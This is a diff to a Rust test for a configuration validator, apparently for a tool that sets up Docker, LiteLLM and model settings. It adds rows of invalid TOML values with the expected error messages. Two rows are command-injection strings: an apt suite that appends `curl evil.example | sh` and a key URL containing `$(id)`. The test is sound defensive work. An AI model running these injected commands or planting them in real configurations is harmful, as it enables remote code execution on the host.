@@ -586,6 +586,63 @@ fn bad_values_are_refused_by_their_consumers_rules() {
             "",
             "`OFFSITE_B2_KEY` is a name clawbake keeps",
         ),
+        // Strings a shell step or a line-based file takes as they are.
+        (
+            "[docker.apt]\nsuite = \"noble; curl evil.example | sh\"\n",
+            "",
+            "expected a suite name like `noble`",
+        ),
+        (
+            "[docker.apt]\nkey_url = \"https://download.docker.com/gpg $(id)\"\n",
+            "",
+            "invalid value for `docker.apt.key_url`",
+        ),
+        (
+            "[docker.apt]\nurl = \"http://download.docker.com/linux/ubuntu\"\n",
+            "",
+            "expected an https:// URL",
+        ),
+        (
+            "[models.claude-sonnet-4-5]\nid = \"claude\\nsonnet\"\n",
+            "",
+            "expected a model id of letters, digits and `-._:/@`",
+        ),
+        (
+            "[memory]\nmodel = \"voyage 3\"\n",
+            "",
+            "invalid value for `memory.model`",
+        ),
+        // Numbers by what their consumer does with 0, infinity, NaN.
+        (
+            "[models.claude-sonnet-4-5]\nrpm = 0\n",
+            "",
+            "LiteLLM routes nothing to a model with 0",
+        ),
+        (
+            "[models.claude-sonnet-4-5]\nbudget_usd = inf\n",
+            "",
+            "expected 0 (no cap) or a finite amount above it",
+        ),
+        (
+            "[models.claude-sonnet-4-5]\nbudget_usd = nan\n",
+            "",
+            "expected 0 (no cap) or a finite amount above it",
+        ),
+        (
+            "[egress]\ncache_mem_mib = 4096\n",
+            "",
+            "expected at most half the egress container's",
+        ),
+        (
+            "[stack.services.litellm]\ncpus = nan\n",
+            "",
+            "expected more than 0 and at most the tier's 4 vCPUs, found `NaN`",
+        ),
+        (
+            "[stack.sandbox]\ncpus = inf\n",
+            "",
+            "invalid value for `stack.sandbox.cpus`",
+        ),
     ];
     for (append, new_key, says) in rows {
         let mut site = SITE.to_owned();
